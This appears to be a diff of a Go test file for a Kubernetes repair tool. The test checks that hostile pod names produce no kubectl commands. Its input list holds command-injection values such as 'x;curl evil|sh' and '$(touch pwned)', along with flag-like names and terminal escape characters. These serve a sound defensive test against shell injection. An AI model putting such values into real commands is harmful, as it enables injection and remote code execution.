@@ -7,9 +7,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"math/rand/v2"
-	"os"
-	"os/exec"
-	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -138,54 +136,55 @@ func TestTheEnvironmentIsNotShown(t *testing.T) {
 	}
 }
 
-// What is handed over reaches kubectl as it was meant, whatever the names are.
-func TestPrintedCommandsKeepHostileValues(t *testing.T) {
-	bin := t.TempDir()
-	log := filepath.Join(bin, "log")
-	const recorder = "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\" >>\"$LOG\"; done\ncat >/dev/null\n"
-	if err := os.WriteFile(filepath.Join(bin, "kubectl"), []byte(recorder), 0o700); err != nil {
-		t.Fatal(err)
+// What is handed over for a bare pod is what kubectl gets, in files and in words;
+// what is no name of Kubernetes gets into no command: kubectl would take --force
+// for a flag.
+func TestPrintedCommandsTakeOnlyNames(t *testing.T) {
+	x := template(good)
+	x.Spec.Volumes = []corev1.Volume{{Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: wrong}}}}
+	handed := func(name string) []remedy.Remedy {
+		volume := remedy.Case{Target: target("Pod", x), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.ImageVolume, "model", wrong)}}
+		debug := remedy.Case{Target: target("Pod", x), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}}
+		var all []remedy.Remedy
+		for _, k := range []remedy.Case{volume, debug} {
+			k.Target.Name, k.Diagnoses[0].Pull.Pod = name, name
+			all = append(all, plan(t, k, remedy.Options{To: good})...)
+		}
+		return all
 	}
-	for _, name := range []string{"x;curl evil|sh", "$(touch pwned)", "`touch pwned`", "it's", `"quoted"`, "a&b>c", "--force", "it's $HOME"} {
-		x := template(good)
-		x.Spec.Volumes = []corev1.Volume{{Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: wrong}}}}
-		k := remedy.Case{Target: target("Pod", x), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.ImageVolume, "model", wrong)}}
-		k.Target.Name = name
-		k.Diagnoses[0].Pull.Pod = name
-		debug := k
-		debug.Diagnoses = []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}
-		debug.Diagnoses[0].Pull.Pod = name
-		for _, k := range []remedy.Case{k, debug} {
-			r := plan(t, k, remedy.Options{To: good})[0]
-			if len(r.Steps) != 1 || len(r.Steps[0].Commands) != 1 {
-				t.Fatalf("%q: %s", name, told(r))
-			}
-			run := exec.CommandContext(t.Context(), "sh", "-c", r.Steps[0].Commands[0])
-			run.Env, run.Dir = []string{"PATH=" + bin + ":/bin:/usr/bin", "LOG=" + log}, bin
-			if out, err := run.CombinedOutput(); err != nil {
-				t.Fatalf("%s: %v\n%s", r.Steps[0].Commands[0], err, out)
-			}
-			text, err := os.ReadFile(log)
-			if err != nil || !strings.Contains("\n"+string(text), "\n"+name+"\n") || !strings.Contains(string(text), good) {
-				t.Errorf("%s gave kubectl %q, %v", r.Steps[0].Commands[0], text, err)
-			}
-			if _, err := os.Stat(filepath.Join(bin, "pwned")); err == nil {
-				t.Fatalf("%s ran something else", r.Steps[0].Commands[0])
-			}
-			if err := os.Remove(log); err != nil {
-				t.Fatal(err)
+	for _, name := range []string{"x;curl evil|sh", "$(touch pwned)", "`touch pwned`", "it's", `"quoted"`, "a&b>c", "--force", "-f", "-", "it's $HOME", "a\nb", "a\x1b[2Jb", "a\u202eb"} {
+		for _, r := range handed(name) {
+			if (r.ID == "replace-pod" || r.ID == "debug-again") && len(r.Steps) > 0 && len(r.Steps[0].Commands) > 0 {
+				t.Errorf("%s has commands for %q: %q", r.ID, name, r.Steps[0].Commands)
 			}
 		}
 	}
-	for _, name := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb"} { // a terminal would not show these
-		k := remedy.Case{Target: target("Pod", template(good)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}}
-		k.Diagnoses[0].Pull.Pod = name
-		for _, r := range plan(t, k, remedy.Options{To: good}) {
-			for _, s := range r.Steps {
-				if strings.Contains(strings.Join(s.Commands, "\n"), name) {
-					t.Errorf("%q went into %q", name, s.Commands)
-				}
-			}
+	all := handed("api-7d9c5")
+	i := slices.IndexFunc(all, func(r remedy.Remedy) bool { return r.ID == "replace-pod" })
+	j := slices.IndexFunc(all, func(r remedy.Remedy) bool { return r.ID == "debug-again" })
+	if i < 0 || j < 0 {
+		t.Fatalf("replace-pod or debug-again is not planned")
+	}
+	var commands []string
+	for _, s := range all[i].Steps {
+		commands = append(commands, s.Commands...)
+	}
+	want := []string{
+		"kubectl get pod api-7d9c5 -n shop -o json > pod-before.json",
+		`kubectl patch --local -f pod-before.json --type json -p '[{"op":"remove","path":"/metadata/uid"},{"op":"remove","path":"/metadata/resourceVersion"},{"op":"replace","path":"/spec/volumes/0/image/reference","value":"` + good + `"}]' -o json > pod-new.json`,
+		`kubectl patch --local -f pod-new.json --type merge -p '{"metadata":{"name":"api-7d9c5-try"}}' -o json | kubectl create --dry-run=server -f -`,
+		"kubectl replace --force -f pod-new.json",
+	}
+	if !slices.Equal(commands, want) {
+		t.Errorf("replace-pod says\n%s\nwant\n%s", strings.Join(commands, "\n"), strings.Join(want, "\n"))
+	}
+	if got := all[j].Steps[0].Commands; !slices.Equal(got, []string{"kubectl debug api-7d9c5 -n shop --image=" + good + " -it"}) {
+		t.Errorf("debug-again says %q", got)
+	}
+	x.Spec.EphemeralContainers = []corev1.EphemeralContainer{{}}
+	for _, r := range handed("api-7d9c5") {
+		if r.ID == "replace-pod" && !strings.Contains(r.Steps[1].Commands[0], `{"op":"remove","path":"/spec/ephemeralContainers"}`) {
+			t.Errorf("no pod can be made with ephemeral containers, and after the old one is deleted it is too late: %s", r.Steps[1].Commands[0])
 		}
 	}
 }
